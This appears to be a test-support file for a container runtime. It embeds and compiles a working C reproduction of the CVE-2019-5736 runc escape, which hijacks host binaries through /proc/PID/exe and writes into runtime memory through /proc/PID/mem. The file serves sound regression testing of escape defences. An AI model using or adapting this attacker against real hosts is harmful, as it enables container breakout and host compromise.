using System.Diagnostics;

namespace Hull.TestSupport;

/// <summary>
/// A static program that, run inside a container, attacks every new process of its pid namespace the way
/// CVE-2019-5736 did: it opens /proc/PID/exe (O_PATH) of any process whose binary comes from outside the container,
/// waits out ETXTBSY and reopens it for writing, and opens /proc/PID/mem (O_RDWR) of such a process and writes one
/// byte (the byte that is already there) at the start of its first mapping. Each finding is a line in the log file
/// (argv[1]). EXE-OPEN names the file (st_dev:st_ino) it got; EXE-WRITE and MEM-OPEN/MEM-WRITE are escapes (MEM-OWN is
/// a process of the container itself); DENIED lines say how far it got. It first turns the files argv[3...] into
/// "#!/proc/self/exe" scripts, so that a runtime exec'ing one runs its own binary in the container (the CVE's
/// trick), and stops when the stop file (argv[2]) exists, after writing READY once it watches. With "-n" as argv[3]
/// it leaves memory alone (a process it can ptrace would otherwise get its environment overwritten).
/// </summary>
public static class ExeAttacker
{
    public const string Source = """
        #define _GNU_SOURCE
        #include <errno.h>
        #include <fcntl.h>
        #include <stdarg.h>
        #include <stdio.h>
        #include <stdlib.h>
        #include <string.h>
        #include <sys/stat.h>
        #include <time.h>
        #include <unistd.h>

        static int logfd, no_mem;

        static void note(const char *fmt, ...) {
            char b[512]; va_list ap; va_start(ap, fmt);
            int n = vsnprintf(b, sizeof b - 1, fmt, ap); va_end(ap);
            b[n++] = '\n'; if (write(logfd, b, n) < 0) _exit(3);
        }
        static long read_num_file(const char *path) {
            char b[32] = {0}; int fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0) return -1;
            if (read(fd, b, sizeof b - 1) < 0) b[0] = 0;
            close(fd);
            return atol(b);
        }
        /* A file from outside the container: its path (as the kernel names it) is not that file in here. */
        static int foreign(int fd, struct stat *st) {
            char p[64], target[4096]; struct stat here;
            snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
            ssize_t n = readlink(p, target, sizeof target - 1);
            if (n < 0 || fstat(fd, st) != 0) return 0;
            target[n] = 0;
            return stat(target, &here) != 0 || here.st_dev != st->st_dev || here.st_ino != st->st_ino;
        }
        static int cmdline(int pid, char *buf, int len) {
            char p[64]; snprintf(p, sizeof p, "/proc/%d/cmdline", pid);
            int fd = open(p, O_RDONLY | O_CLOEXEC); if (fd < 0) return -1;
            int n = read(fd, buf, len - 1); close(fd); if (n < 0) n = 0; buf[n] = 0; return n;
        }
        /* fields 50 and 51 of /proc/PID/stat: env_start, env_end */
        static unsigned long env_start(int pid) {
            char p[64], b[2048] = {0}; snprintf(p, sizeof p, "/proc/%d/stat", pid);
            int fd = open(p, O_RDONLY | O_CLOEXEC); if (fd < 0) return 0;
            int n = read(fd, b, sizeof b - 1); close(fd); if (n <= 0) return 0;
            char *q = strrchr(b, ')'); if (!q) return 0;
            int field = 2; unsigned long v = 0;
            for (char *t = strtok(q + 1, " "); t; t = strtok(NULL, " "))
                if (++field == 50) { v = strtoul(t, NULL, 10); break; }
            return v;
        }

        /* exe fds of foreign binaries, retried for writing until ETXTBSY clears */
        static int held_fd[256], held_pid[256], n_held;
        /* pids that exist but refuse access (yet) */
        static int pending[1024], n_pending;

        /* The memory of a process that runs a binary from outside: writable memory of the runtime (or a daemon)
           whose spawn child this is, unless it is a process of the container started from "#!/proc/self/exe". */
        static void try_mem(int pid) {
            char p[64], c1[256], c2[256];
            if (no_mem) return;
            if (cmdline(pid, c1, sizeof c1) < 0) return;
            unsigned long env = env_start(pid);
            snprintf(p, sizeof p, "/proc/%d/mem", pid);
            int m = open(p, O_RDWR | O_CLOEXEC), merr = errno;
            if (cmdline(pid, c2, sizeof c2) < 0 || strcmp(c1, c2) != 0) { if (m >= 0) close(m); return; }
            if (m < 0) { note("MEM-DENIED pid=%d errno=%d", pid, merr); return; }
            if (strcmp(c1, "/proc/self/exe") == 0) { note("MEM-OWN pid=%d", pid); close(m); return; }
            /* An empty command line twice: no address space (the process is exiting), or one that execve is still
               building for the container's program (arguments not yet placed): neither is the runtime's memory. */
            if (c1[0] == 0) { note("MEM-GONE pid=%d", pid); close(m); return; }
            note("MEM-OPEN pid=%d cmd=%s", pid, c1);
            if (env && pwrite(m, "PWNED", 5, (off_t)env) == 5) note("MEM-WRITE pid=%d env=%lx", pid, env);
            close(m);
        }

        /* 0: gone, 1: blocked (retry), 2: done with it */
        static int attack(int pid) {
            char p[64]; struct stat st;
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            int e = open(p, O_PATH | O_CLOEXEC);
            if (e < 0) return errno == ENOENT || errno == ESRCH ? 0 : 1;
            if (!foreign(e, &st)) { close(e); return 2; }
            note("EXE-OPEN pid=%d file=%lu:%lu", pid, (unsigned long)st.st_dev, (unsigned long)st.st_ino);
            try_mem(pid);
            if (n_held < 256) { held_fd[n_held] = e; held_pid[n_held++] = pid; } else close(e);
            return 2;
        }

        static void retry_held(void) {
            for (int i = 0; i < n_held; i++) {
                char p[64]; snprintf(p, sizeof p, "/proc/self/fd/%d", held_fd[i]);
                int w = open(p, O_WRONLY | O_CLOEXEC);
                if (w < 0 && errno == ETXTBSY) continue;
                if (w >= 0) {
                    /* a real write that changes nothing: the byte that is there */
                    unsigned char c = 0; int r = open(p, O_RDONLY | O_CLOEXEC);
                    if (r >= 0 && pread(r, &c, 1, 0) == 1 && pwrite(w, &c, 1, 0) == 1)
                        note("EXE-WRITE pid=%d", held_pid[i]);
                    else note("EXE-WRITE-OPENED pid=%d", held_pid[i]);
                    if (r >= 0) close(r);
                    close(w);
                } else note("EXE-DENIED pid=%d errno=%d", held_pid[i], errno);
                close(held_fd[i]);
                held_fd[i] = held_fd[n_held - 1]; held_pid[i] = held_pid[n_held - 1]; n_held--; i--;
            }
        }

        int main(int argc, char **argv) {
            if (argc < 3) return 2;
            logfd = open(argv[1], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
            /* CVE-2019-5736: a program the runtime will exec becomes a script whose interpreter is the exec'ing
               process's own binary, which then runs in the container as a process of the container. */
            int first = 3;
            if (argc > 3 && strcmp(argv[3], "-n") == 0) { no_mem = 1; first = 4; }
            for (int i = first; i < argc; i++) {
                unlink(argv[i]);
                int fd = open(argv[i], O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0755);
                if (fd < 0 || write(fd, "#!/proc/self/exe\n", 17) != 17) { note("SETUP-FAILED %s", argv[i]); return 1; }
                close(fd);
            }
            long next = read_num_file("/proc/sys/kernel/ns_last_pid") + 1;
            note("READY next=%ld", next);
            struct timespec pause = {0, 100000};
            for (unsigned long spin = 0;; spin++) {
                if ((spin & 1023) == 0 && access(argv[2], F_OK) == 0) break;
                long last = read_num_file("/proc/sys/kernel/ns_last_pid");
                while (next <= last && n_pending < 1024) pending[n_pending++] = (int)next++;
                for (int i = 0; i < n_pending; i++) {
                    if (pending[i] == getpid()) { pending[i--] = pending[--n_pending]; continue; }
                    int r = attack(pending[i]);
                    if (r != 1) pending[i--] = pending[--n_pending];
                }
                retry_held();
                if (n_pending == 0) nanosleep(&pause, NULL);
            }
            note("STOPPED");
            return 0;
        }
        """;

    /// <summary>Compiles the attacker statically into <paramref name="path"/> (needs gcc and libc6-dev).</summary>
    public static void Build(string path)
    {
        Requires.File("/usr/bin/gcc", "gcc");
        var src = path + ".c";
        File.WriteAllText(src, Source);
        var psi = new ProcessStartInfo("gcc", ["-static", "-O2", "-o", path, src]) { RedirectStandardError = true };
        using var p = Process.Start(psi)!;
        var err = p.StandardError.ReadToEnd();
        p.WaitForExit();
        if (p.ExitCode != 0)
            throw new InvalidOperationException($"gcc -static failed (is libc6-dev installed?): {err}");
    }

    /// <summary>The dynamic loader and libraries <paramref name="binary"/> needs (from ldd), so that a host binary
    /// exec'd in a busybox root filesystem starts there as it would in a distribution's image.</summary>
    public static List<string> SharedLibraries(string binary)
    {
        var psi = new ProcessStartInfo("ldd", [binary]) { RedirectStandardOutput = true };
        using var p = Process.Start(psi)!;
        var lines = p.StandardOutput.ReadToEnd().Split('\n');
        p.WaitForExit();
        return [.. lines.Select(l => l.Split([' ', '\t'], StringSplitOptions.RemoveEmptyEntries))
            .Select(f => f.Length >= 3 && f[1] == "=>" ? f[2] : f.Length >= 1 && f[0].StartsWith('/') ? f[0] : null)
            .OfType<string>()];
    }

    /// <summary>Copies <see cref="SharedLibraries"/> of each binary into <paramref name="rootfs"/>.</summary>
    public static void InstallLibraries(string rootfs, params string[] binaries)
    {
        foreach (var lib in binaries.SelectMany(SharedLibraries).Distinct())
        {
            var dest = rootfs + lib;
            Directory.CreateDirectory(Path.GetDirectoryName(dest)!);
            File.Copy(lib, dest, true);
        }
    }

    /// <summary>Lines of the attacker's log that show a host binary opened for writing.</summary>
    public static List<string> ExeWrites(string log) =>
        [.. File.ReadAllLines(log).Where(l => l.StartsWith("EXE-WRITE", StringComparison.Ordinal))];

    /// <summary>Lines of the attacker's log that show the memory of a runtime or daemon process opened for
    /// writing.</summary>
    public static List<string> MemWrites(string log) =>
        [.. File.ReadAllLines(log).Where(l => l.StartsWith("MEM-OPEN", StringComparison.Ordinal)
            || l.StartsWith("MEM-WRITE", StringComparison.Ordinal))];

    /// <summary>The files (st_dev:st_ino, as the attacker logs them) it got an fd for through /proc/PID/exe.</summary>
    public static List<string> ExeOpened(string log) =>
        [.. File.ReadAllLines(log).Where(l => l.StartsWith("EXE-OPEN", StringComparison.Ordinal))
            .Select(l => l[(l.IndexOf("file=", StringComparison.Ordinal) + 5)..])];

    /// <summary>A host file's identity in the form <see cref="ExeOpened"/> returns.</summary>
    public static string FileId(string path)
    {
        var psi = new ProcessStartInfo("stat", ["-L", "-c", "%d:%i", path]) { RedirectStandardOutput = true };
        using var p = Process.Start(psi)!;
        var id = p.StandardOutput.ReadToEnd().Trim();
        p.WaitForExit();
        return id;
    }
}
